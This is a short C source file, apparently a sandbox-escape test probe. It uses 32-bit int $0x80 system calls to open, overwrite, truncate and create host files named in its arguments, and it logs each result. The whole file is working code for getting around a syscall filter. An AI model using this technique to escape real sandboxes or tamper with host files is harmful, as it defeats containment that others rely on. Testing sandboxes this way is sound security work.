/* i386 open/write/truncate of a host file through int $0x80 (argv[1]). */
#include "escape_common.h"
int main(int argc, char **argv) {
    if (argc < 3) return 2;
    static char m[] = "PWNED via int80\n";
    char *msg = low32(m, sizeof m);
    long fd = int80(5, low32s(argv[1]), 01 | 01000, 0, 0, 0); /* open(O_WRONLY|O_TRUNC) */
    report_raw("i386_open", fd);
    if (fd >= 0) report_raw("i386_write", int80(4, fd, (long)msg, sizeof m - 1, 0, 0));
    report_raw("i386_truncate", int80(92, low32s(argv[1]), 0, 0, 0, 0));
    report_raw("i386_creat", int80(8, low32s(argv[2]), 0644, 0, 0, 0));
    return 0;
}
